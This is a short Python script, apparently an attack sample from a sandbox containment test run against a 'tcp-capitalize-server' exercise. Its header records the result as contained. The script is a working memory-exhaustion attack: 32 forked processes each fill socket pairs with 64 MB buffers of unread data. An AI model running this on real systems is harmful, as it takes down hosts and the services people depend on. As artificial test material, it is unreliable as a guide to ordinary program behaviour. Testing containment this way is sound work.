# attack: fills memory with what lies in sockets that lead to no network, and that nobody reads
# exercise: tcp-capitalize-server
# verdict: failed
# contained: A B C D E
# cause: output-flood
# load: heavy
import os
import signal
import socket
import sys

listener = socket.create_server(("", int(sys.argv[1])))
print("tried", flush=True)
for _ in range(32):
    if os.fork() == 0:
        kept = []
        try:
            while True:
                pair = socket.socketpair()
                kept.append(pair)
                for end in pair:
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(b"x" * 65536)
                    except BlockingIOError:
                        pass
        except OSError:
            signal.pause()
signal.pause()
